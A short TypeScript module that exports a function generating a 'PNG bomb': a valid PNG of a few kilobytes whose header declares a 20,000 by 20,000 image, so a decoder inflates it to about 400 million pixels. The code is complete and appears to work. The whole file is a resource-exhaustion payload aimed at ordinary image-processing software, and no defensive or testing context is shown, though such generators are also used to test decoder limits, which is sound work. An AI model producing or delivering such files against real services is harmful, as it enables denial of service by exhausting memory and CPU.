// PNG bomb: a sound PNG of some kilobytes that unfolds to 400 million pixels.

import { crc32, deflateSync } from "node:zlib";

const SIDE = 20_000;

function chunk(type: string, content: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(type, "latin1"), content]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length, 0);
  frame.writeUInt32BE(crc32(named), 4);
  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
}

export function makePngBomb(): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(SIDE, 0);
  head.writeUInt32BE(SIDE, 4);
  // One bit a pixel, in shades of grey.
  head.writeUInt8(1, 8);
  const rows = deflateSync(Buffer.alloc((SIDE / 8 + 1) * SIDE), { level: 1 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const parts = [chunk("IHDR", head), chunk("IDAT", rows), chunk("IEND", new Uint8Array())];
  return Buffer.concat([signature, ...parts]);
}
